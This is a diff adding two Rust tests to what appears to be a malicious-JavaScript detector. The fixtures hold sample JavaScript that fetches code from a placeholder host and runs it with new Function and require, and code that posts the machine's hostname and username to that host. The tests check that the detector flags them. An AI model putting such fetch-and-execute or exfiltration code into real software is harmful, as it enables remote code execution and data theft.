@@ -474,3 +474,24 @@ fn choices_that_the_surroundings_make_are_seen() {
         0
     );
 }
+
+#[test]
+fn generators_written_as_state_machines_hand_on_what_they_wait_for() {
+    for code in [
+        "g(function (_a) { switch (_a.label) { case 0: return [4, fetch('https://h.invalid/x')]; case 1: r = _a.sent(); new Function('require', r.data)(require); } });",
+        "g(function (c) { while (1) switch (c.p = c.n) { case 0: c.n = 1; return fetch('https://h.invalid/x'); case 1: r = c.v; new Function('require', r.data)(require); } });",
+    ] {
+        let rules = rules(Language::JavaScript, code);
+        assert!(rules.contains(&"flow-remote-code"), "{code}: {rules:?}");
+    }
+}
+
+#[test]
+fn wrappers_around_modules_are_the_modules() {
+    let code = "var star = function (mod) { if (mod && mod.__esModule) return mod; var result = {}; result['default'] = mod; return result; };
+                var plain = function (mod) { return mod && mod.__esModule ? mod : { default: mod }; };
+                const os = star(require('os')), axios = plain(require('axios'));
+                axios.default.post('https://h.invalid/', os.hostname() + os.userInfo().username);";
+    let outcome = outcome(Language::JavaScript, code);
+    assert!(event(&outcome, Act::Send).data.count(Labels::HOSTNAME.with(Labels::USER)) == 2);
+}
